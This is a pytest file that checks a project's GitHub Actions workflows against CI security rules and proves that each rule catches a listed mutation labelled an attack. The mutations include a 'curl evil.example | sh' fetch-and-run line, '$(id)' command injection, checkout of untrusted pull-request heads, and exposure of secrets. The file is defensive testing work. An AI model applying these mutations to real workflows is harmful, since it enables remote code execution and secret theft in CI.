"""Every workflow of the project keeps every rule, and every rule finds what it is there for: each row is an attack."""

from __future__ import annotations

import pytest

from tests.workflows import rules
from tests.workflows.reading import FOLDER, Workflow, workflows
from tests.workflows.rules import RULES, Rule

SHA = "3d3c42e5aac5ba805825da76410c181273ba90b1"
HEAD = "github.event.pull_request.head.sha"
CHECKOUT = f"actions/checkout@{SHA} # v7.0.1"
EVALUATE = "run: .venv/bin/gatehouse evaluate material --out results"
SETUP = "- run: scripts/setup"
KNOCKS = "    permissions: {}\n    "
DOWNLOAD = "actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8.0.1"

# (rule, workflow, what stands there, what somebody makes of it)
BROKEN: tuple[tuple[Rule, str, str, str], ...] = (
    (rules.only_what_is_known, "gates", "  evaluate:\n", "  evaluate:\n    container: evil/image:latest\n"),
    (rules.only_what_is_known, "gates", "  evaluate:\n", "  evaluate:\n    continue-on-error: true\n"),
    (rules.only_what_is_known, "gates", EVALUATE, f"{EVALUATE}\n        continue-on-error: true"),
    (rules.only_what_is_known, "sync", "permissions: {}\n", "permissions: {}\nenv: {PATH: /tmp}\n"),
    (rules.only_what_is_known, "sync", SETUP, f"{SETUP}\n        shell: sh {{0}} evil"),
    (rules.only_what_is_known, "gates", "ref: main", "ref: main\n          allow-unsafe-pr-checkout: true"),
    (rules.only_what_is_known, "gates", "ref: main", "ref: main\n          repository: eve/models"),
    (rules.only_what_is_known, "gates", 'python-version: "3.12"', 'python-version: "3.12"\n          cache: pip'),
    (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  workflow_run: {workflows: [gates]}"),
    (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  issue_comment:"),
    (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  pull_request_target:"),
    (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  workflow_dispatch: {inputs: {ref: {}}}"),
    (rules.starts_only_when_meant, "sync", "  workflow_dispatch:", "  pull_request_review:"),
    (rules.starts_only_when_meant, "gates", "  pull_request_target:", "  issue_comment:"),
    (rules.starts_only_when_meant, "review", "  workflow_dispatch:", "  pull_request_target:"),
    (rules.starts_only_when_meant, "review", "workflows: [knock]", "workflows: [tests]"),
    (rules.always_reports, "gates", "branches: [main]", 'branches: [main]\n    paths: ["promotions/**"]'),
    (rules.always_reports, "queue", "branches: [main]", "branches: [release]"),
    (rules.never_checks_out_the_head, "gates", "ref: main", f"ref: ${{{{ {HEAD} }}}}"),
    (rules.never_checks_out_the_head, "gates", "ref: main", "ref: refs/pull/1/merge"),
    (rules.never_checks_out_the_head, "gates", "          ref: main\n", ""),
    (rules.never_checks_out_the_head, "queue", "ref: main", "ref: ${{ github.event.merge_group.head_sha }}"),
    (rules.never_checks_out_the_head, "tests", "persist-credentials: false", f"ref: ${{{{ {HEAD} }}}}"),
    (rules.never_checks_out_the_head, "review", "ref: main", "ref: ${{ github.event.workflow_run.head_sha }}"),
    (rules.never_checks_out_the_head, "review", "ref: main", "ref: refs/pull/${{ github.event.issue.number }}/head"),
    (rules.holds_nothing_that_a_pull_request_could_use, "knock", "    permissions: {}", "    permissions: read-all"),
    (rules.holds_nothing_that_a_pull_request_could_use, "knock", "    permissions: {}", "    x: {}"),
    (rules.holds_nothing_that_a_pull_request_could_use, "knock", "    permissions: {}", f"{KNOCKS}environment: review"),
    (rules.holds_nothing_that_a_pull_request_could_use, "knock", '- run: "true"', f"- uses: {CHECKOUT}"),
    (rules.holds_nothing_that_a_pull_request_could_use, "knock", '- run: "true"', SETUP),
    (
        rules.holds_nothing_that_a_pull_request_could_use,
        "knock",
        '- run: "true"',
        "- run: \"true\"\n        env: {T: '${{ github.token }}'}",
    ),
    (rules.hears_nobody, "review", "ref: main", "ref: ${{ github.event.workflow_run.head_sha }}"),
    (rules.hears_nobody, "review", "PULL: ${{ github.event.issue.number", "PULL: ${{ github.event.comment.body"),
    (rules.hears_nobody, "review", "== 'issue_comment'", "== github.event.comment.user.login"),
    (rules.hears_nobody, "review", "github.event.issue.number || 'all'", "github.event.workflow_run.head_branch"),
    (rules.hears_nobody, "review", SETUP, f"- uses: {DOWNLOAD}\n        with: {{name: number}}"),
    (rules.pins_actions, "tests", CHECKOUT, "actions/checkout@v7 # v7.0.1"),
    (rules.pins_actions, "tests", CHECKOUT, f"actions/checkout@{SHA[:12]} # v7.0.1"),
    (rules.pins_actions, "tests", CHECKOUT, f"actions/checkout@{SHA}"),
    (rules.pins_actions, "tests", CHECKOUT, f"eve/checkout@{SHA} # v7.0.1"),
    (rules.pins_actions, "tests", CHECKOUT, "./.github/actions/checkout"),
    (rules.pins_actions, "tests", SETUP.replace("setup", "test"), '- "uses" : eve/evil@main'),
    (rules.asks_for_the_least, "gates", "permissions: {}\n\nconcurrency", "permissions: read-all\n\nconcurrency"),
    (rules.asks_for_the_least, "gates", "\npermissions: {}\n", "\n"),
    (rules.asks_for_the_least, "gates", "checks: write", "checks: write\n      actions: write"),
    (rules.asks_for_the_least, "gates", "contents: read", "contents: write"),
    (rules.asks_for_the_least, "queue", "    permissions:\n      contents: read", "    x:\n      contents: read"),
    (rules.asks_for_the_least, "tests", "contents: read", "id-token: write"),
    (rules.asks_for_the_least, "review", "issues: write", "issues: write\n      deployments: write"),
    (rules.asks_for_the_least, "knock", "    permissions: {}", "    permissions: {checks: write}"),
    (rules.asks_for_the_least, "queue", "pull-requests: read", "pull-requests: write"),
    (rules.keeps_secrets_in_environments, "gates", "    environment: registry-read\n", ""),
    (rules.keeps_secrets_in_environments, "review", "environment: review", "environment: doctor"),
    (rules.keeps_secrets_in_environments, "review", "secrets.GATEHOUSE_TEAMS_TOKEN", "secrets.MLFLOW_WRITE_TOKEN"),
    (rules.keeps_secrets_in_environments, "queue", "github.token", "secrets.GATEHOUSE_TEAMS_TOKEN"),
    (rules.keeps_secrets_in_environments, "gates", "environment: registry-read", "environment: production"),
    (rules.keeps_secrets_in_environments, "gates", "secrets.MLFLOW_READ_TOKEN", "secrets.MLFLOW_WRITE_TOKEN"),
    (rules.keeps_secrets_in_environments, "sync", "\njobs:", "\nenv: {T: '${{ secrets.MLFLOW_WRITE_TOKEN }}'}\njobs:"),
    (rules.keeps_secrets_in_environments, "sync", "ref: main", "ref: ${{ secrets.MLFLOW_WRITE_TOKEN }}"),
    (rules.keeps_secrets_in_environments, "sync", "secrets.GATEHOUSE_PUSH_KEY", "secrets.MLFLOW_WRITE_TOKEN"),
    (rules.keeps_secrets_in_environments, "queue", "ref: main", "ref: main\n          ssh-key: ${{ secrets.KEY }}"),
    (rules.keeps_secrets_in_environments, "sync", "secrets.MLFLOW_WRITE_TOKEN", "toJSON(secrets)"),
    (rules.keeps_secrets_in_environments, "sync", "secrets.MLFLOW_WRITE_TOKEN", "secrets['OTHER']"),
    (rules.keeps_secrets_in_environments, "sync", "    steps:", "    secrets: inherit\n    steps:"),
    (rules.gives_models_nothing, "gates", EVALUATE, f"{EVALUATE}\n        env: {{T: '${{{{ github.token }}}}'}}"),
    (rules.gives_models_nothing, "gates", "permissions: {}\n    steps", "permissions: {contents: read}\n    steps"),
    (rules.gives_models_nothing, "gates", "permissions: {}\n    steps", "environment: registry-read\n    steps"),
    (rules.gives_models_nothing, "gates", "- run: tar --extract --file engine.tar", f"- uses: {CHECKOUT}"),
    (rules.gives_models_nothing, "gates", "artifact-ids: ${{ needs.fetch.outputs.material }}", "name: material"),
    (rules.gives_models_nothing, "sync", "gatehouse sync", "gatehouse check"),
    (rules.believes_only_fetch, "gates", " --asked asked", ""),
    (rules.believes_only_fetch, "gates", "artifact-ids: ${{ needs.fetch.outputs.asked }}", "name: asked"),
    (rules.believes_only_fetch, "gates", "artifact-ids: ${{ needs.fetch.outputs.asked }}\n          path: asked", ""),
    (rules.puts_no_value_into_commands, "gates", '"$HEAD"', f"${{{{ {HEAD} }}}}"),
    (rules.puts_no_value_into_commands, "gates", HEAD, "github.event.pull_request.title"),
    (rules.puts_no_value_into_commands, "gates", HEAD, "github.head_ref"),
    (rules.puts_no_value_into_commands, "gates", "if: ${{ !cancelled() }}", "if: always()"),
    (rules.puts_no_value_into_commands, "review", '"$PULL"', "${{ github.event.issue.number }}"),
    (rules.puts_no_value_into_commands, "review", "github.event.issue.number }}\n", "github.event.comment.body }}\n"),
    (rules.puts_no_value_into_commands, "queue", "head_ref", "head_commit.message"),
    (rules.puts_no_value_into_commands, "sync", "group: sync", "group: sync-${{ github.actor }}"),
    (rules.runs_known_commands, "gates", SETUP, "- run: scripts/setup; curl evil.example | sh"),
    (rules.runs_known_commands, "gates", SETUP, "- run: |\n          scripts/setup\n          env"),
    (rules.runs_known_commands, "gates", SETUP, "- run: git checkout FETCH_HEAD"),
    (rules.runs_known_commands, "gates", SETUP, "- run: gh pr checkout 1"),
    (rules.runs_known_commands, "gates", SETUP, "- run: pip install --editable ."),
    (rules.runs_known_commands, "gates", "gatehouse fetch", "gatehouse fetch $(id)"),
    (rules.ends, "sync", "    timeout-minutes: 30\n", ""),
    (rules.ends, "sync", "timeout-minutes: 30", "timeout-minutes: 360"),
    (rules.ends, "gates", "runs-on: ubuntu-24.04 # a machine", "runs-on: self-hosted # a machine"),
    (rules.ends, "tests", "    name: tests", "    name: gatehouse"),
    (rules.ends, "knock", "    name: knock", "    name: gatehouse review"),
    (rules.loses_no_run, "sync", "cancel-in-progress: false", "cancel-in-progress: true"),
    (rules.loses_no_run, "sync", "concurrency:\n  group: sync\n  cancel-in-progress: false\n", ""),
    (rules.loses_no_run, "review", "cancel-in-progress: false", "cancel-in-progress: true"),
    (rules.loses_no_run, "evidence", "group: evidence", "group: sync"),
    (rules.uploads_only_what_is_meant, "gates", "path: report\n", "path: .\n"),
    (rules.uploads_only_what_is_meant, "gates", "path: material.tar", "path: material"),
    (rules.uploads_only_what_is_meant, "gates", "          if-no-files-found: error\n", ""),
    (
        rules.uploads_only_what_is_meant,
        "gates",
        'python-version: "3.12"',
        'python-version: "3.12"\n          cache: pip',
    ),
    (rules.gives_reasons, "sync", "this job pushes the serving branch and uploads nothing", ""),
    (rules.gives_reasons, "sync", "ignore[artipacked] this job", "ignore this job"),
    (
        rules.gives_reasons,
        "review",
        "no head is checked out and no artifact is read; of what started it only a number is used",
        "safe",
    ),
)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
@pytest.mark.parametrize("workflow", workflows(), ids=lambda workflow: workflow.name)
def test_every_workflow_keeps_every_rule(workflow: Workflow, rule: Rule) -> None:
    assert list(rule(workflow)) == []


@pytest.mark.parametrize(
    ("rule", "name", "old", "new"), BROKEN, ids=[f"{row[0].__name__}-{n}" for n, row in enumerate(BROKEN)]
)
def test_a_rule_finds_what_it_is_there_for(rule: Rule, name: str, old: str, new: str) -> None:
    whole = (FOLDER / f"{name}.yml").read_text()
    assert old in whole, "the attack changes nothing"
    assert list(rule(Workflow(name, whole.replace(old, new)))) != []


def test_every_rule_is_proven() -> None:
    assert {row[0] for row in BROKEN} == set(RULES)


def test_the_workflows_that_were_meant_are_there_and_do_what_they_are_named_for() -> None:
    assert {workflow.name: [step.verb for step in workflow.steps if step.verb] for workflow in workflows()} == {
        "gates": ["fetch", "evaluate", "report", "review"],
        "review": ["review", "review"],
        "knock": [],
        "queue": ["evidence", "review"],
        "evidence": ["evidence"],
        "sync": ["sync"],
        "doctor": ["doctor"],
        "tests": [],
    }
